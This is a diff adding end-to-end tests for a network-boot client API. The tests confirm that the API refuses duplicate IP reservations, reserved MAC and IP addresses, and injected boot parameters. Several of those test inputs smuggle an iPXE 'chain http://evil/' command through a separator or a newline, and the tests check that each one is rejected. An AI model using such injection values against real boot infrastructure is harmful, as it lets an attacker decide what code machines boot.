@@ -207,6 +207,147 @@ describe('clients (e2e)', () => {
     });
   });
 
+  describe('states that would fail at boot are refused at write time', () => {
+    it('two clients may not reserve one ipAddress (POST and PATCH → 409, nothing written)', async () => {
+      const a = await t.http
+        .post('/api/v1/clients')
+        .set(as(operator))
+        .send(clientBody({ ipAddress: '10.44.0.5' }))
+        .expect(201);
+      const before = await count();
+      const r = await t.http
+        .post('/api/v1/clients')
+        .set(as(operator))
+        .send(clientBody({ ipAddress: '10.44.0.5' }))
+        .expect(409);
+      expect(r.body).toMatchObject({
+        code: 'IP_ADDRESS_ALREADY_RESERVED',
+        message: `ipAddress 10.44.0.5 is already reserved for client "${a.body.hostname}"`,
+      });
+      expect(await count()).toBe(before);
+      const b = await makeClient(ds, { ipAddress: '10.44.0.6' });
+      await t.http.patch(`/api/v1/clients/${b.id}`).set(as(operator)).send({ ipAddress: '10.44.0.5' }).expect(409);
+      expect((await ds.query('SELECT host(ip_address) AS ip FROM clients WHERE id = $1', [b.id]))[0].ip).toBe('10.44.0.6');
+      // keeping one's own address, and clearing it, are fine
+      await t.http.patch(`/api/v1/clients/${a.body.id}`).set(as(operator)).send({ ipAddress: '10.44.0.5', hostname: 'kept-ip' }).expect(200);
+      await t.http.patch(`/api/v1/clients/${a.body.id}`).set(as(operator)).send({ ipAddress: null }).expect(200);
+      await t.http.patch(`/api/v1/clients/${b.id}`).set(as(operator)).send({ ipAddress: '10.44.0.5' }).expect(200);
+    });
+
+    it('concurrent reservations of one ipAddress: exactly one wins, the rest 409, never a 500', async () => {
+      for (let round = 0; round < 3; round++) {
+        const ip = `10.45.0.${round + 1}`;
+        const answers = await Promise.all(
+          Array.from({ length: 10 }, () =>
+            t.http
+              .post('/api/v1/clients')
+              .set(as(operator))
+              .send(clientBody({ ipAddress: ip })),
+          ),
+        );
+        expect(answers.map((r) => r.status).sort()).toEqual([201, 409, 409, 409, 409, 409, 409, 409, 409, 409]);
+        for (const r of answers.filter((x) => x.status === 409)) expect(r.body.code).toBe('IP_ADDRESS_ALREADY_RESERVED');
+        expect((await ds.query('SELECT count(*)::int AS n FROM clients WHERE ip_address = $1', [ip]))[0].n).toBe(1);
+      }
+    });
+
+    it('the database refuses a second reservation that bypasses the API', async () => {
+      await makeClient(ds, { ipAddress: '10.46.0.1' });
+      await expect(makeClient(ds, { ipAddress: '10.46.0.1' })).rejects.toThrow(/uq_clients_ip_address/);
+    });
+
+    it.each([
+      ['ff:ff:ff:ff:ff:ff', 'the broadcast address'],
+      ['FF-FF-FF-FF-FF-FF', 'the broadcast address'],
+      ['00:00:00:00:00:00', 'the all-zero address'],
+      ['01:00:5e:00:00:fb', 'a multicast (group) address'],
+      ['33:33:00:00:00:01', 'a multicast (group) address'],
+    ])('refuses the MAC %s (POST, PATCH, bulk)', async (mac, reason) => {
+      const canonical = mac.toLowerCase().replace(/-/g, ':');
+      const r = await t.http
+        .post('/api/v1/clients')
+        .set(as(operator))
+        .send(clientBody({ macAddress: mac }))
+        .expect(400);
+      expect(r.body.message).toEqual([expect.stringContaining(`macAddress ${canonical} is ${reason}`)]);
+      const c = await makeClient(ds);
+      await t.http.patch(`/api/v1/clients/${c.id}`).set(as(operator)).send({ macAddress: mac }).expect(400);
+      const b = await t.http
+        .post('/api/v1/clients/bulk')
+        .set(as(operator))
+        .send([clientBody(), clientBody({ macAddress: mac })])
+        .expect(400);
+      expect(b.body.details.rows).toEqual([{ index: 1, field: 'macAddress', message: expect.stringContaining(reason) }]);
+    });
+
+    it.each(['127.0.0.1', '0.0.0.0', '169.254.1.1', '224.0.0.1', '255.255.255.255'])('refuses the reservation %s', async (ip) => {
+      const r = await t.http
+        .post('/api/v1/clients')
+        .set(as(operator))
+        .send(clientBody({ ipAddress: ip }))
+        .expect(400);
+      expect(r.body.message).toEqual([expect.stringMatching(new RegExp(`^ipAddress ${ip.replace(/\./g, '\\.')} lies in `))]);
+    });
+
+    it.each([
+      ['a || chain http://evil/', 'must not contain the iPXE command separator ||'],
+      ['a ; b', 'must not contain the iPXE command separator ;'],
+      ['root=${root}', 'must not contain $, quotes or backslashes'],
+      ["x='y'", 'must not contain $, quotes or backslashes'],
+      ['a\\b', 'must not contain $, quotes or backslashes'],
+      ['quiet\nchain http://evil/', 'only printable ASCII and spaces are allowed'],
+      ['é', 'only printable ASCII and spaces are allowed'],
+      ['#comment', 'a word must not start with # or :'],
+      [':label', 'a word must not start with # or :'],
+    ])("refuses customBootParams %j with the iPXE renderer's own rule (POST, PATCH, bulk)", async (params, reason) => {
+      const before = await count();
+      const r = await t.http
+        .post('/api/v1/clients')
+        .set(as(operator))
+        .send(clientBody({ customBootParams: params }))
+        .expect(400);
+      expect(r.body.message).toEqual([expect.stringMatching(/^customBootParams: /)]);
+      expect(r.body.message[0]).toContain(reason);
+      const b = await t.http
+        .post('/api/v1/clients/bulk')
+        .set(as(operator))
+        .send([clientBody(), clientBody({ customBootParams: params })])
+        .expect(400);
+      expect(b.body.details.rows).toEqual([{ index: 1, field: 'customBootParams', message: expect.stringContaining(reason) }]);
+      expect(await count()).toBe(before);
+      const c = await makeClient(ds, { customBootParams: 'quiet' });
+      await t.http.patch(`/api/v1/clients/${c.id}`).set(as(operator)).send({ customBootParams: params }).expect(400);
+      expect((await ds.query('SELECT custom_boot_params FROM clients WHERE id = $1', [c.id]))[0].custom_boot_params).toBe('quiet');
+    });
+
+    it('accepts ordinary kernel parameters', async () => {
+      await t.http
+        .post('/api/v1/clients')
+        .set(as(operator))
+        .send(clientBody({ customBootParams: 'quiet splash console=ttyS0,115200n8 rd.break=pre-mount' }))
+        .expect(201);
+    });
+
+    it('bulk: duplicate and already reserved ipAddresses are row errors, nothing written', async () => {
+      const holder = await makeClient(ds, { ipAddress: '10.47.0.1' });
+      const before = await count();
+      const rows = [
+        clientBody({ ipAddress: '10.47.0.2' }),
+        clientBody({ ipAddress: '10.47.0.2' }),
+        clientBody({ ipAddress: '10.47.0.1' }),
+        clientBody({ ipAddress: '10.47.0.3' }),
+      ];
+      const r = await t.http.post('/api/v1/clients/bulk').set(as(operator)).send(rows).expect(400);
+      expect(r.body.details.rows).toEqual([{ index: 1, field: 'ipAddress', message: 'ipAddress 10.47.0.2 also appears in row 0' }]);
+      const r2 = await t.http.post('/api/v1/clients/bulk').set(as(operator)).send([rows[0], rows[2], rows[3]]).expect(400);
+      expect(r2.body.details.rows).toEqual([
+        { index: 1, field: 'ipAddress', message: `ipAddress 10.47.0.1 is already reserved for client "${holder.hostname}"` },
+      ]);
+      expect(await count()).toBe(before);
+      await t.http.post('/api/v1/clients/bulk').set(as(operator)).send([rows[0], rows[3]]).expect(201);
+    });
+  });
+
   it('roles: viewer reads only; operator and admin write', async () => {
     const c = await makeClient(ds);
     await t.http.get('/api/v1/clients').expect(401);
